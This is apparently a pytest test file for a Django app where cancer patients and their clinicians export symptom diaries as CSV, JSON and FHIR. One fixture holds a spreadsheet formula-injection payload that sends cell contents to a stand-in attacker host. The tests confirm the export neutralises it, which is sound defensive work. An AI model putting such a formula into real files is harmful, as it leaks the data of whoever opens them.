"""Downloads of everything the app holds about a patient: CSV, JSON and FHIR R4, for the patient and for
their clinician (logged), and nobody else."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.test import override_settings
from fhir.resources.R4B.bundle import Bundle
from rest_framework.test import APIClient

from symptoms import evaluation, export, rules
from symptoms.assessments import day_entries, patient_policy, two_places
from symptoms.models import Alert, RecordAccess, SymptomEntry
from tests.conftest import api_as
from tests.factories import EntryFactory, PatientFactory
from treatment.models import Administration, ClinicianGrade, Course

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def diary(clinic):
    """Ten days with a two-day gap, a Chinese note, a hostile note, a fall (an alert), and a course."""
    patient = clinic.patient
    today = patient.local_today()
    for ago in range(11, -1, -1):
        if ago in (4, 5):
            continue
        EntryFactory(patient=patient, date=today - timedelta(days=ago), numbness=3 + ago % 3, pain=ago % 4,
                     hands=True, feet=ago % 2 == 0, fell=ago == 1,
                     notes={0: "手指刺麻，扣扣子很困難。", 2: HOSTILE, 3: "+1 worse", 6: "@mention"}.get(ago, ""))
    course = Course.objects.create(patient=patient, agent="oxaliplatin", regimen="mFOLFOX6", cycle_length_days=14)
    Administration.objects.create(course=course, date=today - timedelta(days=10))
    Administration.objects.create(course=course, date=today + timedelta(days=4), dose_percent=80)
    ClinicianGrade.objects.create(patient=patient, date=today - timedelta(days=3), grade=2,
                                  recorded_by=clinic.clinician)
    evaluation.evaluate_patients([patient.pk])
    return patient


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def download(user, path="/api/v1/export/", kind="csv"):
    response = api_as(user).get(path, {"format": kind})
    assert response.status_code == 200, response.content
    return response


def test_the_csv_opens_in_a_spreadsheet_with_chinese_notes_and_no_formulas(diary):
    response = download(diary)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"cipn-tracker-export-") and diary.username not in disposition
    raw = body(response)
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a byte-order mark
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == ["date", "numbness", "pain", "hands", "feet", "dropped_objects", "balance_problems",
                             "fine_motor_difficulty", "sleep_disturbed", "fell", "cold_sensitivity", "notes",
                             "day_score", "weekly_average", "entered_by"]
    today = diary.local_today()
    assert [row["date"] for row in rows] == [(today - timedelta(days=ago)).isoformat()
                                             for ago in range(11, -1, -1) if ago not in (4, 5)]  # oldest first
    by_day = {row["date"]: row for row in rows}
    assert by_day[today.isoformat()]["notes"] == "手指刺麻，扣扣子很困難。"
    assert by_day[(today - timedelta(days=2)).isoformat()]["notes"] == "'" + HOSTILE
    assert by_day[(today - timedelta(days=3)).isoformat()]["notes"] == "'+1 worse"
    assert by_day[(today - timedelta(days=6)).isoformat()]["notes"] == "'@mention"
    first, fourth = rows[0], rows[3]
    assert first["weekly_average"] == "" and first["day_score"] == str(max(int(first["numbness"]), int(first["pain"])))
    # The 4th day is the first with 4 of 7 days logged: its average is their day scores' mean, two decimals.
    scores = [max(int(row["numbness"]), int(row["pain"])) for row in rows[:4]]
    assert fourth["weekly_average"] == f"{sum(scores) / 4:.2f}" and rows[2]["weekly_average"] == ""
    assert by_day[(today - timedelta(days=1)).isoformat()]["fell"] == "true"
    assert {row["entered_by"] for row in rows} == {"patient"}


def test_the_json_has_everything_in_the_apis_shapes(diary, clinic):
    data = json.loads(body(download(diary, kind="json")))
    assert set(data) == {"patient", "entries", "assessment", "alerts", "courses", "clinician_grades"}
    assert data["patient"]["username"] == diary.username and len(data["entries"]) == 10
    assert data["patient"]["care_team"] == [clinic.clinician.display_name()]
    assert data["patient"]["own_threshold"] is None
    assert data["entries"][0] == api_as(diary).get("/api/v1/entries/").json()[-1]  # same shape, oldest first
    assert data["assessment"] == api_as(diary).get("/api/v1/assessment/").json()
    assert [alert["kind"] for alert in data["alerts"]] == list(
        Alert.objects.filter(patient=diary).order_by("opened_at").values_list("kind", flat=True)) != []
    [course] = data["courses"]
    assert course["regimen"] == "mFOLFOX6" and [dose["dose_percent"] for dose in course["administrations"]] == [100, 80]
    assert data["clinician_grades"][0]["grade"] == 2


def test_the_fhir_bundle_validates_and_codes_every_pain_score_with_loinc(diary):
    response = download(diary, kind="fhir")
    assert response["Content-Type"] == "application/fhir+json"
    raw = body(response)
    bundle = Bundle.model_validate_json(raw)  # the library's R4 (R4B) models: it must validate
    assert bundle.type == "collection"
    resources = [entry.resource for entry in bundle.entry]
    kinds = [resource.get_resource_type() for resource in resources]
    assert kinds.count("Patient") == 1
    patient_ref = f"urn:uuid:{resources[kinds.index('Patient')].id}"
    observations = [resource for resource in resources if resource.get_resource_type() == "Observation"]
    pain = [obs for obs in observations if obs.code.coding[0].code == "72514-3"]
    assert len(pain) == 10 and all(obs.code.coding[0].system == "http://loinc.org" for obs in pain)
    assert all(obs.status == "final" and obs.category[0].coding[0].code == "survey"
               and obs.subject.reference == patient_ref for obs in pain)
    assert sorted(obs.valueInteger for obs in pain) == sorted(
        SymptomEntry.objects.filter(patient=diary).values_list("pain", flat=True))
    numbness = [obs for obs in observations if obs.code.coding[0].code == "numbness"]
    flags = [obs for obs in observations if obs.code.coding[0].code == "daily-flags"]
    assert len(numbness) == len(flags) == 10 and all(len(obs.component) == 6 for obs in flags)
    [assessment] = [obs for obs in observations if obs.code.coding[0].code == "assessment"]
    assert assessment.valueCodeableConcept.coding[0].code == diary.current_status.status
    assert kinds.count("MedicationStatement") == 1 and kinds.count("MedicationAdministration") == 1
    assert kinds.count("MedicationRequest") == 1  # the planned dose
    assert len({entry.fullUrl for entry in bundle.entry}) == len(bundle.entry)
    assert body(download(diary, kind="fhir")) == raw  # the same data exports the same bundle


def test_the_clinician_downloads_their_patients_data_and_it_is_logged(diary, clinic):
    path = f"/api/v1/patients/{diary.pk}/export/"
    for kind in ("csv", "json", "fhir"):
        download(clinic.clinician, path, kind)
    assert RecordAccess.objects.filter(actor=clinic.clinician, patient=diary, action="exported_record").count() == 3


def test_nobody_else_gets_the_data(diary, clinic):
    path = f"/api/v1/patients/{diary.pk}/export/"
    assert api_as(clinic.other_clinician).get(path, {"format": "csv"}).status_code == 404
    assert api_as(clinic.other_patient).get(path, {"format": "csv"}).status_code == 404
    assert api_as(diary).get(path, {"format": "csv"}).status_code == 404  # the patient's own is /export/
    assert api_as(clinic.clinician).get("/api/v1/export/", {"format": "csv"}).status_code == 403
    assert APIClient().get("/api/v1/export/", {"format": "csv"}).status_code == 401
    assert APIClient().get(path, {"format": "csv"}).status_code == 401
    assert not RecordAccess.objects.filter(action="exported_record").exists()
    # The other patient's own download holds none of this patient's entries.
    assert body(download(clinic.other_patient)).decode("utf-8-sig").count("\n") == 1


@pytest.mark.parametrize("query", [{}, {"format": ""}, {"format": "xml"}, {"format": "CSV"}])
def test_a_bad_format_is_a_400_naming_it(diary, query):
    response = api_as(diary).get("/api/v1/export/", query)
    assert response.status_code == 400 and response.json() == {"format": ["Choose csv, json or fhir."]}


@override_settings(SYMPTOM_BACKFILL_DAYS=60)
def test_the_json_entries_put_back_into_an_empty_account_give_the_same_assessment(diary):
    data = json.loads(body(download(diary, kind="json")))
    newcomer = PatientFactory(time_zone=diary.time_zone)
    client = api_as(newcomer)
    for entry in data["entries"]:
        read_only = ("date", "updated_at", "entered_by", "entered_by_name")
        sent = {key: value for key, value in entry.items() if key not in read_only}
        assert client.put(f"/api/v1/entries/{entry['date']}/", sent, format="json").status_code == 201
    # The course and grades are the clinic's, not the diary's; the assessment comes from the entries alone.
    mine, theirs = api_as(diary).get("/api/v1/assessment/").json(), client.get("/api/v1/assessment/").json()
    for treatment_field in ("next_administration", "cycle", "needs_review"):
        mine.pop(treatment_field), theirs.pop(treatment_field)
    assert theirs == mine


def test_settings_offers_the_three_downloads_to_a_patient_and_the_record_page_to_the_clinician(client, diary, clinic):
    client.force_login(diary)
    page = client.get("/settings/").content.decode()
    assert "Download my data" in page
    for kind in ("csv", "json", "fhir"):
        assert f'href="/api/v1/export/?format={kind}" download' in page
    client.force_login(clinic.clinician)
    assert "Download my data" not in client.get("/settings/").content.decode()
    record = client.get(f"/clinician/patients/{diary.pk}/").content.decode()
    assert f'href="/api/v1/patients/{diary.pk}/export/?format=fhir" download' in record
    # Following the link with the page's session downloads the file.
    response = client.get(f"/api/v1/patients/{diary.pk}/export/?format=csv")
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")


def test_every_weekly_average_is_the_rules_own_across_pages_and_gaps(diary, monkeypatch):
    monkeypatch.setattr(export, "PAGE_SIZE", 3)  # ten entries: four pages
    rows = list(csv.DictReader(io.StringIO(body(download(diary)).decode("utf-8-sig"))))
    entries = day_entries([diary.pk])[diary.pk]
    first = min(entry.date for entry in entries)
    trend = {day.date.isoformat(): day.weekly_average
             for day in rules.trend(entries, first, diary.local_today(), patient_policy(diary))}
    assert len(rows) == 10
    for row in rows:
        expected = two_places(trend[row["date"]])
        assert row["weekly_average"] == ("" if expected is None else f"{expected:.2f}"), row["date"]


def test_spaces_and_full_width_signs_cannot_start_a_formula_either():
    assert export.spreadsheet_safe("  =SUM(A1)") == "'  =SUM(A1)"
    assert export.spreadsheet_safe("＝1+1") == "'＝1+1" and export.spreadsheet_safe("＋1 worse") == "'＋1 worse"
    assert export.spreadsheet_safe("Tingling, 2 = better") == "Tingling, 2 = better"


def test_the_bundle_is_this_clinics_and_the_same_whatever_language_the_reader_uses(diary, settings):
    english = body(download(diary, kind="fhir"))
    diary.language = "zh-hant"
    diary.save()
    chinese_reader = api_as(diary).get("/api/v1/export/", {"format": "fhir"}, HTTP_ACCEPT_LANGUAGE="zh-hant")
    identifier = json.loads(english)["entry"][0]["resource"]["identifier"][0]
    assert identifier["system"] == settings.SITE_URL.rstrip("/") + "/fhir/patient-id"
    # Only the patient's own language preference differs between the two downloads.
    assert body(chinese_reader).replace(b'"zh-Hant"', b'"en"') == english
    settings.SITE_URL = "https://another-clinic.example.org"
    other_clinic = json.loads(body(download(diary, kind="fhir")))
    assert other_clinic["entry"][0]["resource"]["id"] != json.loads(english)["entry"][0]["resource"]["id"]
